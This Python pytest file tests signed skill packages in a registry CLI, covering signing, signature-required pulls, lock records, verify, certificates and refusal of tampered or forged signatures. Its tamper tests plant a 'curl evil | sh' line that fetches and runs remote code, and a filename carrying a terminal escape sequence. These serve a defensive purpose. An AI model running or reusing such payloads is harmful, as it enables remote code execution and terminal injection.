"""Signed skills through ``hub serve``: push --sign, pull/install/update --require-signature,
the signer in the lock, ``verify`` and ``info`` re-checking, and every refusal writing nothing."""

from __future__ import annotations

import base64
import json
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from huggingface_hub import HfApi

from tests.registry.conftest import CliResult, key_pairs, tree_state, write_skill
from upskill_hub.errors import LockError, SignatureError
from upskill_hub.registry.project.lock import LOCK_FILENAME, read_lock
from upskill_hub.registry.project.pull import pull
from upskill_hub.registry.push import push_skills
from upskill_hub.registry.trust.signing import (
    SIGNATURE_FILE,
    STATEMENT_FILE,
    TrustPolicy,
    load_trusted_keys,
)

Run = Callable[..., CliResult]


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Path]:
    """Two key pairs: ``team`` (trusted in these tests) and ``other`` (not)."""
    return key_pairs(tmp_path / "keys", "team", "other")


def _fingerprint(pub: Path) -> str:
    [key] = load_trusted_keys([pub], use_env=False)
    return key.fingerprint


def _push_signed(tmp_path: Path, repo_id: str, key: Path | None) -> str:
    skill = write_skill(tmp_path / "src", repo_id.split("/")[1])
    return push_skills(skill, repo_id=repo_id, sign=key).commit


def _pull_required(run_cli: Run, repo_id: str, project: Path, pub: Path, *extra: str) -> CliResult:
    return run_cli(
        "pull", repo_id, "--require-signature", "--trusted-key", str(pub), *extra, cwd=project
    )


def test_keygen_writes_a_private_key_only_its_owner_reads_and_never_overwrites(
    run_cli: Run, tmp_path: Path
) -> None:
    made = run_cli("keygen", str(tmp_path / "me.key"), "--format", "json")
    assert made.code == 0, made.stderr
    out = made.json()
    assert out["public_key"] == str(tmp_path / "me.pub")
    assert out["key"] == _fingerprint(tmp_path / "me.pub")
    assert stat.S_IMODE((tmp_path / "me.key").stat().st_mode) == 0o600
    assert "PRIVATE KEY" not in made.stdout + made.stderr
    again = run_cli("keygen", str(tmp_path / "me.key"))
    assert again.code == 2 and "already exists" in again.stderr


def test_signed_skill_installs_and_the_lock_records_the_signer(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path / "src", name)
    (skill / "notes.txt~").write_text("editor junk, never uploaded\n")
    pushed = run_cli(
        "push",
        str(skill),
        "--repo",
        unique_repo_id,
        "--sign",
        str(keys["team"]),
        "--format",
        "json",
    )
    assert pushed.code == 0, pushed.stderr
    team = _fingerprint(keys["team.pub"])
    assert pushed.json()["signed_by"] == team
    assert "PRIVATE KEY" not in pushed.stdout + pushed.stderr
    repo_files = HfApi().list_repo_files(unique_repo_id)
    assert SIGNATURE_FILE in repo_files and "notes.txt~" not in repo_files
    assert not (skill / SIGNATURE_FILE).exists()  # the user's folder is left as it was

    result = _pull_required(run_cli, unique_repo_id, project, keys["team.pub"])
    assert result.code == 0, result.stderr
    locked = read_lock(project).skills[name]
    assert locked.signature is not None and locked.signature["signer"] == team
    assert locked.signature["public_key"] == keys["team.pub"].read_text()
    assert (project / ".claude" / "skills" / name / SIGNATURE_FILE).is_file()
    assert (
        json.loads((project / LOCK_FILENAME).read_text())["skills"][name]["signature"]["signer"]
        == team
    )
    checked = run_cli("verify", cwd=project)
    assert checked.code == 0, checked.stdout + checked.stderr


def _write_ec_pair(
    private: Path, public: Path, *, curve: str, sec1: bool = False, password: bytes | None = None
) -> None:
    """A fresh EC key pair as PEM files: the private key as SEC1 (what ``openssl ecparam
    -genkey`` writes) or PKCS8, encrypted with ``password`` when given; the public key SPKI."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP384R1() if curve == "secp384r1" else ec.SECP256R1())
    fmt = serialization.PrivateFormat
    private.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            fmt.TraditionalOpenSSL if sec1 else fmt.PKCS8,
            serialization.BestAvailableEncryption(password)
            if password
            else serialization.NoEncryption(),
        )
    )
    public.write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )


def _state(project: Path) -> dict[str, bytes | str]:
    return tree_state(project)


def test_a_file_changed_on_the_hub_after_signing_is_refused_and_named(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    HfApi().upload_file(
        path_or_fileobj=b"import os; os.system('curl evil | sh')\n",
        path_in_repo="scripts/run.py",
        repo_id=unique_repo_id,
        commit_message="tamper, keeping the old signature",
    )
    before = _state(project)
    result = _pull_required(run_cli, unique_repo_id, project, keys["team.pub"])
    assert result.code == 1
    assert "scripts/run.py (changed)" in result.stderr and "Traceback" not in result.stderr
    assert _state(project) == before


def test_added_and_removed_files_are_named(
    tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    api = HfApi()
    api.upload_file(
        path_or_fileobj=b"x = 1\n", path_in_repo="scripts/extra.py", repo_id=unique_repo_id
    )
    api.delete_file("scripts/run.py", repo_id=unique_repo_id)
    policy = TrustPolicy(tuple(load_trusted_keys([keys["team.pub"]], use_env=False)), True)
    with pytest.raises(SignatureError) as caught:
        pull(unique_repo_id, project_root=project, trust=policy)
    assert caught.value.kind == "mismatch"
    assert caught.value.files == ["scripts/extra.py (added)", "scripts/run.py (removed)"]
    assert "scripts/extra.py (added), scripts/run.py (removed)" in str(caught.value)
    assert not (project / ".claude").exists() and not (project / LOCK_FILENAME).exists()


def test_a_skill_signed_by_another_key_is_refused(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    # re-signed by someone else: same files, a new signature from a key nobody trusts
    _push_signed(tmp_path / "again", unique_repo_id, keys["other"])
    before = _state(project)
    result = _pull_required(run_cli, unique_repo_id, project, keys["team.pub"])
    assert result.code == 1
    assert _fingerprint(keys["other.pub"]) in result.stderr
    assert "not a trusted key" in result.stderr
    assert _state(project) == before


def test_an_unsigned_skill_is_refused_only_when_a_signature_is_required(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, None)
    before = _state(project)
    result = _pull_required(run_cli, unique_repo_id, project, keys["team.pub"])
    assert result.code == 1 and f"not signed (no {SIGNATURE_FILE})" in result.stderr
    assert _state(project) == before
    no_key = run_cli("pull", unique_repo_id, "--require-signature", cwd=project)
    assert no_key.code == 2 and "--trusted-key" in no_key.stderr
    assert _state(project) == before
    plain = run_cli("pull", unique_repo_id, cwd=project)
    assert plain.code == 0, plain.stderr
    assert read_lock(project).skills[unique_repo_id.split("/")[1]].signature is None


def test_trusted_keys_from_a_file_and_the_environment(
    run_cli: Run, tmp_path: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    bundle = tmp_path / "trusted.pem"
    bundle.write_text(keys["other.pub"].read_text() + keys["team.pub"].read_text())
    for i, (args, env) in enumerate(
        [
            (["--trusted-keys", str(bundle)], {}),
            ([], {"UPSKILL_HUB_TRUSTED_KEYS": str(keys["team.pub"])}),
        ]
    ):
        project = tmp_path / f"p{i}"
        (project / ".git").mkdir(parents=True)
        result = run_cli("pull", unique_repo_id, "--require-signature", *args, cwd=project, env=env)
        assert result.code == 0, result.stderr
        signature = read_lock(project).skills[unique_repo_id.split("/")[1]].signature
        assert signature is not None
        assert signature["signer"] == _fingerprint(keys["team.pub"])


def test_without_require_an_untrusted_signature_is_a_warning_not_a_signer(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["other"])
    result = run_cli("pull", unique_repo_id, "--trusted-key", str(keys["team.pub"]), cwd=project)
    assert result.code == 0, result.stderr
    assert "not a trusted key" in result.stderr and "not recorded as signed" in result.stderr
    assert read_lock(project).skills[unique_repo_id.split("/")[1]].signature is None


def test_verify_rechecks_the_signature_of_the_installed_copy(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    assert _pull_required(run_cli, unique_repo_id, project, keys["team.pub"]).code == 0
    name = unique_repo_id.split("/")[1]
    installed = project / ".claude" / "skills" / name
    (installed / "scripts" / "run.py").write_text("print('edited')\n")
    (installed / "added.md").write_text("new\n")
    result = run_cli("verify", "--format", "json", cwd=project)
    assert result.code == 1
    [problem] = result.json()["signatures"][name]
    assert "added.md (added)" in problem and "scripts/run.py (changed)" in problem
    text = run_cli("verify", cwd=project)
    assert (
        text.code == 1 and "signature" in text.stdout and "scripts/run.py (changed)" in text.stdout
    )
    # a trusted-keys list that no longer holds the signer is a problem too
    (installed / "scripts" / "run.py").unlink()
    (installed / "added.md").unlink()
    pull(unique_repo_id, project_root=project, force=True)
    untrusted = run_cli("verify", "--trusted-key", str(keys["other.pub"]), cwd=project)
    assert untrusted.code == 1 and "not a trusted key" in untrusted.stdout


def test_update_and_install_stay_with_the_locked_signer(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    first = _push_signed(tmp_path, unique_repo_id, keys["team"])
    assert _pull_required(run_cli, unique_repo_id, project, keys["team.pub"]).code == 0
    name = unique_repo_id.split("/")[1]
    lock_before = (project / LOCK_FILENAME).read_bytes()
    # a new commit signed by another key: update (no flags) keeps to the locked signer
    skill = write_skill(tmp_path / "v2", name, {"scripts/run.py": "print('v2')\n"})
    push_skills(skill, repo_id=unique_repo_id, sign=keys["other"])
    before = _state(project)
    moved = run_cli("update", cwd=project)
    assert moved.code == 1 and "not a trusted key" in moved.stderr
    assert "the lock records this skill as signed by sha256:" in moved.stderr
    assert _state(project) == before and (project / LOCK_FILENAME).read_bytes() == lock_before
    # install from the lock re-checks the locked commit with the locked key and keeps the record
    (project / ".claude").rename(project / "gone")
    restored = run_cli("install", "--frozen", cwd=project)
    assert restored.code == 0, restored.stderr
    assert (project / LOCK_FILENAME).read_bytes() == lock_before
    assert read_lock(project).skills[name].commit == first


def test_push_refuses_a_stale_signature_and_scan_validate_accept_a_signed_skill(
    run_cli: Run, tmp_path: Path, unique_repo_id: str, keys: dict[str, Path], project: Path
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    pulled = run_cli("pull", unique_repo_id, cwd=project)
    assert pulled.code == 0, pulled.stderr
    installed = project / ".claude" / "skills" / unique_repo_id.split("/")[1]
    assert run_cli("validate", str(installed)).code == 0
    scanned = run_cli("scan", str(installed), "--format", "json")
    assert scanned.code == 0 and scanned.json()["skills"][0]["findings"] == []
    (installed / "SKILL.md").write_text((installed / "SKILL.md").read_text() + "\nMore.\n")
    stale = run_cli("push", str(installed), "--repo", unique_repo_id)
    assert stale.code == 1 and "SKILL.md (changed)" in stale.stderr
    assert "--sign" in stale.stderr


def test_bad_signing_keys_are_one_line_errors(
    run_cli: Run, tmp_path: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    skill = write_skill(tmp_path / "src", "bad-key")
    public = run_cli("push", str(skill), "--repo", unique_repo_id, "--sign", str(keys["team.pub"]))
    assert public.code == 2 and "not a PEM private key" in public.stderr
    assert "Traceback" not in public.stderr
    missing = run_cli("push", str(skill), "--repo", unique_repo_id, "--sign", "nope.key")
    assert missing.code == 2 and "nope.key" in missing.stderr
    not_key = tmp_path / "junk.pub"
    not_key.write_text("hello\n")
    pulled = run_cli("pull", unique_repo_id, "--trusted-key", str(not_key), cwd=tmp_path)
    assert pulled.code == 2 and "no PEM public key" in pulled.stderr


def test_locks_without_signatures_load_and_a_forged_signer_is_refused(
    tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    policy = TrustPolicy(tuple(load_trusted_keys([keys["team.pub"]], use_env=False)), True)
    pull(unique_repo_id, project_root=project, trust=policy)
    path = project / LOCK_FILENAME
    data = json.loads(path.read_text())
    [entry] = data["skills"].values()
    old = {k: v for k, v in entry.items() if k != "signature"}
    path.write_text(json.dumps({**data, "skills": {entry_name(data): old}}))
    assert read_lock(project).skills[entry_name(data)].signature is None
    forged = {**entry, "signature": {**entry["signature"], "signer": "sha256:" + "0" * 64}}
    path.write_text(json.dumps({**data, "skills": {entry_name(data): forged}}))
    with pytest.raises(LockError, match=r"signature\.signer"):
        read_lock(project)


def entry_name(data: dict[str, dict[str, object]]) -> str:
    [name] = data["skills"]
    return name


@pytest.mark.slow
def test_info_shows_the_signature_and_whether_it_holds(
    run_cli: Run, tmp_path: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    first = _push_signed(tmp_path, unique_repo_id, keys["team"])
    team = _fingerprint(keys["team.pub"])
    trusted = run_cli("info", unique_repo_id, "--trusted-key", str(keys["team.pub"]))
    assert trusted.code == 0, trusted.stderr
    assert f"signed by {team} (trusted key, verified)" in trusted.stdout
    unchecked = run_cli("info", unique_repo_id, "--format", "json")
    [skill] = unchecked.json()["skills"]
    assert skill["signature"]["key"] == team and skill["signature"]["verified_by"] is None
    assert skill["signature"]["signed_files"] == ["SKILL.md", "scripts/run.py", STATEMENT_FILE]
    other = run_cli("info", unique_repo_id, "--trusted-key", str(keys["other.pub"]))
    assert "not a trusted key" in other.stdout
    HfApi().upload_file(
        path_or_fileobj=b"changed\n", path_in_repo="scripts/run.py", repo_id=unique_repo_id
    )
    tampered = run_cli("info", unique_repo_id)
    assert "files differ from what was signed: scripts/run.py (changed)" in tampered.stdout
    unsigned_repo = unique_repo_id + "-plain"
    _push_signed(tmp_path / "plain", unsigned_repo, None)
    plain = run_cli("info", unsigned_repo, "--format", "json")
    assert plain.json()["skills"][0]["signature"] is None
    assert "not signed" in run_cli("info", unsigned_repo).stdout
    assert run_cli("info", f"{unique_repo_id}@{first}").code == 0


def test_openssl_style_keys_and_verify_require_signature_on_unsigned_entries(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str
) -> None:
    # `openssl ecparam -genkey -noout` writes SEC1 ("BEGIN EC PRIVATE KEY") PEM
    private, public = tmp_path / "k.pem", tmp_path / "k.pub"
    _write_ec_pair(private, public, curve="secp384r1", sec1=True)
    assert private.read_text().startswith("-----BEGIN EC PRIVATE KEY-----")
    _push_signed(tmp_path, unique_repo_id, private)
    assert _pull_required(run_cli, unique_repo_id, project, public).code == 0
    plain = unique_repo_id + "-plain"
    _push_signed(tmp_path / "plain", plain, None)
    assert run_cli("pull", plain, cwd=project).code == 0
    args = ("verify", "--require-signature", "--trusted-key", str(public), "--format", "json")
    result = run_cli(*args, cwd=project)
    assert result.code == 1
    plain_name = plain.split("/")[1]
    assert result.json()["signatures"] == {plain_name: [f"{plain_name}: not signed"]}


def test_each_skill_of_a_multi_skill_repo_carries_its_own_signature(
    tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    folder = tmp_path / "many"
    write_skill(folder, "alpha")
    write_skill(folder, "beta", {"data/table.csv": "a,b\n1,2\n"})
    push_skills(folder, repo_id=unique_repo_id, sign=keys["team"])
    repo_files = set(HfApi().list_repo_files(unique_repo_id))
    assert {f"skills/alpha/{SIGNATURE_FILE}", f"skills/beta/{SIGNATURE_FILE}"} <= repo_files
    assert SIGNATURE_FILE not in repo_files  # the card (README.md) is not signed
    policy = TrustPolicy(tuple(load_trusted_keys([keys["team.pub"]], use_env=False)), True)
    report = pull(unique_repo_id, skills=["beta"], project_root=project, trust=policy)
    assert [s.name for s in report.skills] == ["beta"]
    locked = read_lock(project).skills["beta"]
    assert locked.signature is not None
    assert set(locked.files) == {"SKILL.md", "data/table.csv", SIGNATURE_FILE, STATEMENT_FILE}


def test_a_signature_that_claims_a_trusted_key_it_was_not_made_with_is_refused(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["other"])
    api = HfApi()
    bundle = json.loads(
        Path(api.hf_hub_download(unique_repo_id, SIGNATURE_FILE)).read_text(encoding="utf-8")
    )
    team_hint = _fingerprint(keys["team.pub"]).removeprefix("sha256:")
    bundle["verificationMaterial"]["publicKey"]["hint"] = team_hint
    api.upload_file(
        path_or_fileobj=json.dumps(bundle).encode(),
        path_in_repo=SIGNATURE_FILE,
        repo_id=unique_repo_id,
    )
    before = _state(project)
    # refused even without --require-signature: it names a trusted key it cannot back
    result = run_cli("pull", unique_repo_id, "--trusted-key", str(keys["team.pub"]), cwd=project)
    assert result.code == 1 and "does not verify with trusted key" in result.stderr
    assert _state(project) == before


# -- certificate signing ------------------------------------------------------------------------


def _make_pki(folder: Path, name: str) -> dict[str, Path]:
    """A CA and a code-signing certificate it issued, as PEM files (EC P-256)."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    folder.mkdir(parents=True, exist_ok=True)
    now = datetime.datetime.now(datetime.UTC)

    def cert(subject: str, key: Any, issuer: str, issuer_key: Any, ca: bool) -> Any:
        usage = x509.KeyUsage(
            digital_signature=not ca,
            content_commitment=False,
            key_encipherment=False,
            data_encipherment=False,
            key_agreement=False,
            key_cert_sign=ca,
            crl_sign=ca,
            encipher_only=False,
            decipher_only=False,
        )
        return (
            x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
            .issuer_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, issuer)]))
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(minutes=5))
            .not_valid_after(now + datetime.timedelta(days=30))
            .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
            .add_extension(usage, critical=True)
            .sign(issuer_key, hashes.SHA256())
        )

    ca_key, leaf_key = (
        ec.generate_private_key(ec.SECP256R1()),
        ec.generate_private_key(ec.SECP256R1()),
    )
    ca_cert = cert(f"{name} CA", ca_key, f"{name} CA", ca_key, True)
    leaf_cert = cert(f"{name} skills", leaf_key, f"{name} CA", ca_key, False)
    paths = {"ca": folder / "ca.crt", "cert": folder / "signing.crt", "key": folder / "signing.key"}
    paths["ca"].write_bytes(ca_cert.public_bytes(serialization.Encoding.PEM))
    paths["cert"].write_bytes(leaf_cert.public_bytes(serialization.Encoding.PEM))
    paths["key"].write_bytes(
        leaf_key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return paths


@pytest.mark.slow
def test_certificate_signed_skill_installs_against_its_ca_and_others_are_refused(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    team, rogue = _make_pki(tmp_path / "team", "Team"), _make_pki(tmp_path / "rogue", "Rogue")
    skill = write_skill(tmp_path / "src", unique_repo_id.split("/")[1])
    pushed = run_cli(
        "push", str(skill), "--repo", unique_repo_id, "--sign", str(team["key"]),
        "--sign-certificate", str(team["cert"]), "--format", "json",
    )  # fmt: skip
    assert pushed.code == 0, pushed.stderr
    assert pushed.json()["signed_by"].startswith("CN=Team skills (sha256:")
    before = _state(project)
    for args, expected in [
        (["--trusted-ca", str(rogue["ca"])], "does not verify against a trusted CA (CN=Rogue CA)"),
        (["--trusted-key", str(keys["team.pub"])], "no CA is trusted (--trusted-ca)"),
    ]:
        refused = run_cli("pull", unique_repo_id, "--require-signature", *args, cwd=project)
        assert refused.code == 1 and expected in refused.stderr, refused.stderr
        assert "CN=Team skills" in refused.stderr
        assert _state(project) == before
    ok = run_cli(
        "pull",
        unique_repo_id,
        "--require-signature",
        cwd=project,
        env={"UPSKILL_HUB_TRUSTED_CAS": str(team["ca"])},
    )
    assert ok.code == 0, ok.stderr
    name = unique_repo_id.split("/")[1]
    signature = read_lock(project).skills[name].signature
    assert signature is not None and signature["method"] == "certificate"
    assert signature["subject"] == "CN=Team skills"
    assert signature["ca"] == team["ca"].read_text()
    assert run_cli("verify", cwd=project).code == 0
    shown = run_cli("info", unique_repo_id, "--trusted-ca", str(team["ca"]))
    assert "signed by CN=Team skills (sha256:" in shown.stdout and "verified" in shown.stdout
    (project / ".claude" / "skills" / name / "SKILL.md").write_text("changed\n")
    checked = run_cli("verify", "--format", "json", cwd=project)
    assert checked.code == 1 and "SKILL.md (changed)" in checked.json()["signatures"][name][0]


def test_a_certificate_that_is_not_the_keys_is_a_one_line_error(
    run_cli: Run, tmp_path: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    team = _make_pki(tmp_path / "team", "Team")
    skill = write_skill(tmp_path / "src", "cert-mismatch")
    result = run_cli(
        "push", str(skill), "--repo", unique_repo_id, "--sign", str(keys["team"]),
        "--sign-certificate", str(team["cert"]),
    )  # fmt: skip
    assert result.code == 2 and str(team["cert"]) in result.stderr
    assert "does not match" in result.stderr and "Traceback" not in result.stderr
    alone = run_cli("push", str(skill), "--repo", unique_repo_id, "--sign-certificate", "x.crt")
    assert alone.code == 2 and "need --sign KEY" in alone.stderr


def test_a_sigstore_keyless_bundle_is_named_and_refused(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    api = HfApi()
    bundle = json.loads(Path(api.hf_hub_download(unique_repo_id, SIGNATURE_FILE)).read_text())
    team = _make_pki(tmp_path / "pki", "Fulcio")
    der = base64.b64encode(
        base64.b64decode("".join(team["cert"].read_text().splitlines()[1:-1]))
    ).decode()
    bundle["verificationMaterial"] = {"certificate": {"rawBytes": der}, "tlogEntries": []}
    api.upload_file(
        path_or_fileobj=json.dumps(bundle).encode(),
        path_in_repo=SIGNATURE_FILE,
        repo_id=unique_repo_id,
    )
    before = _state(project)
    result = _pull_required(run_cli, unique_repo_id, project, keys["team.pub"])
    assert result.code == 1 and "signed with sigstore (keyless)" in result.stderr
    assert _state(project) == before
    shown = run_cli("info", unique_repo_id, "--format", "json")
    assert shown.json()["skills"][0]["signature"]["key"] == "sigstore (keyless)"


def test_install_require_signature_checks_copies_already_in_place(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    plain = unique_repo_id + "-plain"
    _push_signed(tmp_path / "plain", plain, None)
    assert _pull_required(run_cli, unique_repo_id, project, keys["team.pub"]).code == 0
    args = ("install", "--require-signature", "--trusted-key", str(keys["team.pub"]))
    signed_only = run_cli(*args, cwd=project)
    assert signed_only.code == 0, signed_only.stderr
    assert "unchanged" in signed_only.stdout
    assert run_cli("pull", plain, cwd=project).code == 0
    before = _state(project)
    refused = run_cli(*args, cwd=project)
    assert refused.code == 1 and f"{plain.split('/')[1]}: not signed" in refused.stderr
    assert _state(project) == before


def test_a_signing_key_inside_the_skill_folder_is_never_uploaded(
    run_cli: Run, tmp_path: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    skill = write_skill(tmp_path / "src", "keeps-its-key")
    # a name that is not a secret's (a .pem is never published at all): the key is found by
    # its bytes, not its name
    inside = skill / "notes" / "signing.txt"
    inside.parent.mkdir()
    inside.write_bytes(keys["team"].read_bytes())
    result = run_cli("push", str(skill), "--repo", unique_repo_id, "--sign", str(inside))
    assert result.code == 2 and "notes/signing.txt is the signing key" in result.stderr
    assert "PRIVATE KEY" not in result.stdout + result.stderr
    assert not HfApi().repo_exists(unique_repo_id)


def test_names_from_a_signature_are_printed_with_control_characters_escaped(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str, keys: dict[str, Path]
) -> None:
    _push_signed(tmp_path, unique_repo_id, keys["team"])
    api = HfApi()
    bundle = json.loads(Path(api.hf_hub_download(unique_repo_id, SIGNATURE_FILE)).read_text())
    statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    statement["predicate"]["resources"].append(
        {"name": "evil\x1b[2J.md", "digest": "0" * 64, "algorithm": "sha256"}
    )
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    api.upload_file(
        path_or_fileobj=json.dumps(bundle).encode(),
        path_in_repo=SIGNATURE_FILE,
        repo_id=unique_repo_id,
    )
    result = _pull_required(run_cli, unique_repo_id, project, keys["team.pub"])
    assert result.code == 1 and "evil\\u001b[2J.md (removed)" in result.stderr
    assert "\x1b" not in result.stderr


def test_an_encrypted_signing_key_takes_its_password_from_the_environment(
    run_cli: Run, tmp_path: Path, project: Path, unique_repo_id: str
) -> None:
    private, public = tmp_path / "locked.key", tmp_path / "locked.pub"
    _write_ec_pair(private, public, curve="secp256r1", password=b"correct horse")
    skill = write_skill(tmp_path / "src", unique_repo_id.split("/")[1])
    push = ("push", str(skill), "--repo", unique_repo_id, "--sign", str(private))
    missing = run_cli(*push)
    assert missing.code == 2 and "UPSKILL_HUB_SIGNING_KEY_PASSWORD" in missing.stderr
    wrong = run_cli(*push, env={"UPSKILL_HUB_SIGNING_KEY_PASSWORD": "nope"})
    assert wrong.code == 2 and "password" in wrong.stderr
    done = run_cli(*push, env={"UPSKILL_HUB_SIGNING_KEY_PASSWORD": "correct horse"})
    assert done.code == 0, done.stderr
    assert "correct horse" not in done.stdout + done.stderr
    assert _pull_required(run_cli, unique_repo_id, project, public).code == 0
